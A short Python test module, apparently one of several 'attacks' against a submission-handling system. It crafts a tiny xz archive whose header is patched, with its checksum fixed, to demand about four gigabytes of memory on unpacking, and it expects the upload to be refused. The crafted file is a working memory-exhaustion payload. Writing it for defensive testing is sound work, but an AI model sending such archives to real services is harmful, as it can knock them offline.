# verdict: refused
# says: memory
"""A few hundred bytes that ask for four gigabytes before the first of them is unpacked."""
import lzma
import struct
import zlib

from attacks.support.packing import SCALE, tar_of


def hand_in(people, student, right, secret):
    data = bytearray(lzma.compress(tar_of((SCALE, right), mode="w:")))
    length = 4 * (data[12] + 1)
    place = data.index(b"\x21\x01", 12, 12 + length) + 2
    data[place] = 40  # four gigabytes, less one byte
    data[12 + length - 4 : 12 + length] = struct.pack("<I", zlib.crc32(data[12 : 12 + length - 4]))
    (people / f"{student}.tar.xz").write_bytes(bytes(data))
